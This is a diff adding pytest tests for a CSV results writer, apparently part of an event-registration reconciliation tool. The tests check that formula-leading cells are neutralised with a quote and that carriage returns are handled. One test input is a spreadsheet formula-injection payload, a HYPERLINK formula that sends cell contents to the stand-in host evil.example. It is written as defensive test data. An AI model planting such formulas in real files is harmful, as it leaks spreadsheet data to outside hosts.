@@ -94,3 +94,44 @@ def test_results_file_keeps_input_columns_and_order_and_adds_result_columns(
     assert records[2][4:6] == ["Bo", "invalid"]
     assert len(records) == 3
     assert not list(tmp_path.glob(".out.csv.*"))  # no temporary file left behind
+
+
+def test_formula_cells_from_the_input_and_from_the_server_get_a_leading_quote(tmp_path: Path) -> None:
+    path = tmp_path / "in.csv"
+    notes = ["=1+1", "+cmd", "-5", "@SUM(A1)", "\tx", "\rx", "safe", "a=b", ""]
+    with path.open("w", newline="", encoding="utf-8") as handle:
+        writer = csv.writer(handle)
+        writer.writerow(["event_id", "track_id", "registration_id", "=HYPERLINK(1)"])
+        writer.writerows([[EVENT, TRACK, reg_id(n), note] for n, note in enumerate(notes)])
+    loaded = load_input(path, default_status="CANCELED")
+    server_says = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    rows = reconcile(loaded, plan_batches(loaded.groups, batch_size=100), [BatchResult(1, 400, error=server_says)])
+    out = tmp_path / "out.csv"
+    write_results(out, loaded, rows)
+    with out.open(newline="", encoding="utf-8") as handle:
+        records = list(csv.reader(handle))
+    assert records[0][3] == "'=HYPERLINK(1)"
+    assert [record[3] for record in records[1:]] == [
+        "'=1+1",
+        "'+cmd",
+        "'-5",
+        "'@SUM(A1)",
+        "'\tx",
+        "'\rx",
+        "safe",
+        "a=b",
+        "",
+    ]
+    assert {record[6] for record in records[1:]} == {"'" + server_says}
+    assert loaded.values[3][0] == "=1+1"  # the loaded input itself is untouched
+
+
+def test_results_use_crlf_and_quote_a_lone_carriage_return(write_csv: WriteCsv, tmp_path: Path) -> None:
+    path = write_csv([[EVENT, TRACK, reg_id(1), "a\rb"]], header=["event_id", "track_id", "registration_id", "note"])
+    loaded = load_input(path, default_status="CANCELED")
+    out = tmp_path / "out.csv"
+    write_results(out, loaded, reconcile(loaded, plan_batches(loaded.groups, batch_size=100), [BatchResult(1, 200)]))
+    content = out.read_bytes()
+    assert content.count(b"\r\n") == 2
+    assert b'"a\rb"' in content
+    assert load_input(out, default_status=None).values[3].tolist() == ["a\rb"]
